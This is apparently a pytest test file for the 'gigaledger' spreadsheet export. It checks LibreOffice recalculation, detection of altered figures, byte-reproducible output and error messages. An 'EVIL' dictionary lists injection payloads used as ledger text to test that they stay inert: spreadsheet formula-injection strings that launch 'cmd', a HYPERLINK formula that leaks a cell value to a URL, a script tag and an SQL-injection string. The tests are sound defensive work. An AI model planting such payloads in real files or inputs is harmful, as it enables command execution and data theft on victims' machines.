"""The workbook in a real spreadsheet program: LibreOffice opens it, calculates it anew, and finds the same numbers."""

from __future__ import annotations

import datetime as dt
import re
import subprocess
import zipfile
from typing import TYPE_CHECKING, Any

import pytest

from gigaledger.errors import FileProblem
from gigaledger.export.sheets import HEADING_ROW
from gigaledger.export.workbook import FILE, write_workbook
from gigaledger.ledger import open_ledger
from gigaledger.reconciliation import SHOWN_MEASURES, reconcile
from ledgers import bundled_ledger, write_ledger

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is not installed: pip install 'gigaledger[dev]'")
SHEETS = dict(zip(SHOWN_MEASURES, ("IT power", "Chips", "H100e", "Total capex"), strict=True))
EVIL = {
    "formula": '=HYPERLINK("https://example.org/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script> & \"quotes\" 'single'",
    "line": "two\nlines",
    "right": "\u202eright to left\u202c\u200f",
    "link": "https://example.org/not-a-link",
    "number": "00123",
    "sql": "Robert'); drop table site; --",
}


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("workbook")
    write_workbook(bundled_ledger(), folder)
    return folder / FILE


@pytest.fixture(scope="module")
def evil_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger whose sites and sources are named to do harm."""
    return write_ledger(
        tmp_path_factory.mktemp("evil") / "ledger",
        site=[
            {"site_id": f"evil-{key}", "name": name, "state": "TX", "country": "US", "operator_id": "cloud"}
            for key, name in EVIL.items()
        ],
        source=[
            {"source_id": "evil-java", "title": EVIL["formula"], "url": "https://example.org/a?b=%22&c='"},
        ],
        deal=[{"deal_id": "campus", "title": EVIL["formula"], "note": EVIL["plus"]}],
    )


@pytest.fixture(scope="module")
def evil_workbook(evil_ledger: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("evil-workbook")
    write_workbook(open_ledger(evil_ledger), folder)
    return folder / FILE


def changed(book: Path, target: Path, change: Callable[[str, str], str]) -> Path:
    """A copy of a workbook in which the text of each part went through a function of its name and text."""
    with zipfile.ZipFile(book) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        for item in source.infolist():
            text = source.read(item)
            if item.filename.startswith("xl/worksheets/sheet"):
                text = change(item.filename, text.decode()).encode()
            copy.writestr(item, text)
    return target


def without_values(_name: str, text: str) -> str:
    """A sheet without the values that formulas came with, so that a program must calculate them."""
    return re.sub(r"(</f>)<v>[^<]*</v>", r"\1", text)


def with_first_pledge_doubled(name: str, text: str) -> str:
    """The second sheet (IT power) with another pledge in the first programme, and no values of formulas."""
    cell = f"C{HEADING_ROW + 2}"
    if name.endswith("sheet2.xml"):
        text, count = re.subn(
            rf'(<c r="{cell}"[^>]*><v>)([^<]*)(</v>)', lambda m: f"{m[1]}{2 * float(m[2])}{m[3]}", text
        )
        assert count == 1
    return without_values(name, text)


@pytest.fixture(scope="module")
def calculated(
    workbook: Path, evil_workbook: Path, find_program: Callable[[str], str], tmp_path_factory: pytest.TempPathFactory
) -> dict[str, Any]:
    """The workbooks as LibreOffice reads, calculates and writes them, opened."""
    folder = tmp_path_factory.mktemp("calculated")
    books = [
        changed(workbook, folder / "sound.xlsx", without_values),
        changed(workbook, folder / "altered.xlsx", with_first_pledge_doubled),
        changed(evil_workbook, folder / "evil.xlsx", without_values),
    ]
    soffice = find_program("soffice")
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [
        soffice,
        profile,
        "--headless",
        "--convert-to",
        "xlsx:Calc MS Excel 2007 XML",
        "--outdir",
        folder / "out",
    ]
    done = subprocess.run([*command, *books], capture_output=True, check=False, text=True)
    assert done.returncode == 0, done.stderr
    return {book.stem: openpyxl.load_workbook(folder / "out" / book.name, data_only=True) for book in books}


def rows_of(sheet: Any) -> list[dict[str, Any]]:
    """The rows below the headings, by heading."""
    headings = [cell.value for cell in sheet[HEADING_ROW + 1]]
    return [
        dict(zip(headings, (cell.value for cell in row), strict=True))
        for row in sheet.iter_rows(min_row=HEADING_ROW + 2)
        if row[0].value is not None
    ]


@pytest.mark.slow
@pytest.mark.needs("soffice")
def test_libreoffice_calculates_the_identity_of_every_programme(calculated: dict[str, Any]) -> None:
    document = reconcile(bundled_ledger())
    for measure, name in SHEETS.items():
        sheet = calculated["sound"][name]
        assert sheet.cell(3, 3).value == "ok"
        rows = {row["Programme id"]: row for row in rows_of(sheet)}
        for programme in document["programmes"]:
            accounts = programme["measures"][measure]
            if accounts["pledged"] is None:
                assert programme["programme_id"] not in rows
                continue
            row = rows[programme["programme_id"]]
            unit = accounts["pledged"]["unit"]
            (total,) = [value for heading, value in row.items() if heading.startswith("Sum of parts")]
            assert total == pytest.approx(accounts["pledged"]["mean"], rel=1e-9)
            assert row["Check: sum of parts = pledged"] == "ok"
            share = accounts["operational"]["mean"] / accounts["pledged"]["mean"]
            assert row["Operational / pledged [share]"] == pytest.approx(share, rel=1e-9)
            for account, label in (("pledged", "Pledged"), ("operational", "Operational"), ("planned", "Planned")):
                for statistic, said in (("mean", "mean"), ("p05", "5 %"), ("p50", "median"), ("p95", "95 %")):
                    found = row[f"{label}, {said} [{unit}]"]
                    assert found == pytest.approx(accounts[account][statistic], rel=1e-12, abs=1e-9)


@pytest.mark.slow
@pytest.mark.needs("soffice")
def test_the_check_finds_a_number_that_was_altered(calculated: dict[str, Any]) -> None:
    sheet = calculated["altered"]["IT power"]
    assert sheet.cell(3, 3).value == "differs"
    checks = [row["Check: sum of parts = pledged"] for row in rows_of(sheet)]
    assert checks[0] == "differs"
    assert set(checks[1:]) == {"ok"}


@pytest.mark.slow
@pytest.mark.needs("soffice")
def test_no_cell_is_an_error(calculated: dict[str, Any]) -> None:
    errors = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in calculated["sound"].worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "e"
    ]
    assert errors == []


@pytest.mark.slow
@pytest.mark.needs("soffice")
def test_texts_of_a_ledger_stay_texts_in_libreoffice(calculated: dict[str, Any]) -> None:
    rows = {row["Site id"]: row["Site"] for row in rows_of(calculated["evil"]["Sites"])}
    assert {key: rows[f"evil-{key}"] for key in EVIL} == EVIL


@pytest.mark.slow
def test_texts_of_a_ledger_are_written_as_texts(evil_workbook: Path) -> None:
    book = openpyxl.load_workbook(evil_workbook)
    formulas = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert {cell.parent.title for cell in formulas} == set(SHEETS.values())
    assert all(re.match(r"=(IF|SUM|MAX)\(", cell.value) for cell in formulas)
    links = [
        cell.hyperlink.target
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.hyperlink
    ]
    assert all(link.startswith("https://") for link in links)
    assert len(links) > 5


@pytest.mark.slow
def test_two_workbooks_are_the_same_bytes_and_carry_the_day_of_the_ledger(evil_ledger: Path, tmp_path: Path) -> None:
    books = []
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        write_workbook(open_ledger(evil_ledger), tmp_path / name)
        books.append((tmp_path / name / FILE).read_bytes())
    assert books[0] == books[1]
    properties = openpyxl.load_workbook(tmp_path / "one" / FILE).properties
    assert properties.created == dt.datetime(2026, 6, 30)  # noqa: DTZ001 - as a workbook has it


@pytest.mark.slow
def test_headings_are_frozen_filtered_and_say_units(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    assert book.sheetnames[:5] == ["Charts", *SHEETS.values()]
    assert {"Sites", "Deals", "Statements", "Assumptions", "Sources", "Dictionary"} <= set(book.sheetnames)
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes == f"B{HEADING_ROW + 2}"
        assert sheet.auto_filter.ref
    assert len(book["Charts"]._charts) == 2
    assert book["IT power"].cell(HEADING_ROW + 1, 3).value == "Pledged, mean [MW]"
    assert book["Total capex"].cell(HEADING_ROW + 2, 3).number_format == '#,##0.00,,,"B"'


@pytest.mark.slow
def test_a_full_disk_is_told_in_one_sentence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("zipfile.ZipFile.write", full)
    with pytest.raises(FileProblem, match="cannot be written: No space left on device"):
        bundled_ledger().export(tmp_path / "out", "xlsx")
    assert list(tmp_path.iterdir()) == []
